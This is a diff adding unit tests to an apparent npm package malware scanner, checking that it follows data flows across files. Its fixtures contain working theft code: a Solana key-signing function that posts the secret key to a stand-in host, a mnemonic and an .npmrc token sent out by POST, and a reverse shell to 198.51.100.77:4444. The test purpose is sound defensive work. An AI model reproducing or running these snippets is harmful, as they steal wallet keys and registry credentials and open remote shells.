@@ -350,6 +350,61 @@ describe('the Function constructor under another name', () => {
   });
 });
 
+describe('flows split between two files of the package', () => {
+  const queue = `function addToQueue(value) {
+  try { fetch('https://sol-rpc-cdn.example.xyz/api/v1/queue', { method: 'POST', headers: { 'x-cf-id': value } }).catch(() => {}); } catch (e) {}
+}
+module.exports = { addToQueue };
+`;
+
+  it("a secret key handed to another file's export that posts its argument is key theft, high from the entry (@solana/web3.js 1.95.6)", () => {
+    const r = scan({
+      'lib/index.js': `const nacl = require('tweetnacl');
+const { addToQueue } = require('./queue');
+class Keypair {
+  static fromSecretKey(secretKey) {
+    addToQueue(Buffer.from(secretKey).toString('base64'));
+    return new Keypair(nacl.sign.keyPair.fromSecretKey(secretKey));
+  }
+}
+module.exports = { Keypair };
+`,
+      'lib/queue.js': queue,
+    }, { main: 'lib/index.js' });
+    const flow = r.findings.find((f) => f.detector === 'exfiltration');
+    expect(flow?.evidence).toMatchObject({ file: 'lib/index.js', line: 5 });
+    expect(String(flow?.message ?? JSON.stringify(flow?.data))).toContain('lib/queue.js');
+    expect(['high', 'critical']).toContain(r.level);
+  });
+
+  it('ESM exports, tsc output and a module that is itself the sender are followed alike', () => {
+    const esm = scan({
+      'index.mjs': `import send from './send.mjs';\nconst mnemonic = process.argv[2];\nsend(mnemonic);\n`,
+      'send.mjs': `export default function (text) { return fetch('https://collect.example.xyz/m', { method: 'POST', body: text }); }\n`,
+    }, { main: 'index.mjs', type: 'module' });
+    expect(esm.ids).toContain('exfiltration/flow');
+    const tsc = scan({
+      'dist/index.js': `"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nconst fs = require("fs");\nconst report_1 = require("./report");\nconst npmrc = fs.readFileSync(require("os").homedir() + "/.npmrc", "utf8");\n(0, report_1.report)(npmrc);\n`,
+      'dist/report.js': `"use strict";\nObject.defineProperty(exports, "__esModule", { value: true });\nexports.report = void 0;\nconst report = (data) => require("https").request({ hostname: "stats.example.xyz", method: "POST" }).end(data);\nexports.report = report;\n`,
+    }, { main: 'dist/index.js' });
+    expect(tsc.ids).toContain('exfiltration/flow');
+  });
+
+  it('a secret handed to a local module that only logs or hashes it, or a sender handed a derived value, is no flow', () => {
+    const logs = scan({
+      'index.js': `const { log } = require('./log');\nconst { addToQueue } = require('./queue');\nfunction load(secretKey) { log(secretKey.length); addToQueue('started'); }\nmodule.exports = { load };\n`,
+      'log.js': `exports.log = function (v) { console.log(v); };\n`,
+      'queue.js': queue,
+    }, { main: 'index.js' });
+    expect(logs.ids).not.toContain('exfiltration/flow');
+    const posts = scan({
+      'index.js': `const { post } = require('./client');\nfunction sign(secretKey, message) { const signature = nacl.sign.detached(message, secretKey); return post(signature); }\nmodule.exports = { sign };\n`,
+      'client.js': `exports.post = (body) => fetch('https://api.example-chain.org/tx', { method: 'POST', body });\n`,
+    }, { main: 'index.js' });
+    expect(posts.ids).not.toContain('exfiltration/flow');
+  });
+});
+
 describe('programs the package starts', () => {
   const shell = `const net = require('net');\nconst { spawn } = require('child_process');\nconst sock = net.connect(4444, '198.51.100.77', () => {\n  const sh = spawn('/bin/sh', []);\n  sock.pipe(sh.stdin);\n  sh.stdout.pipe(sock);\n});\n`;
 
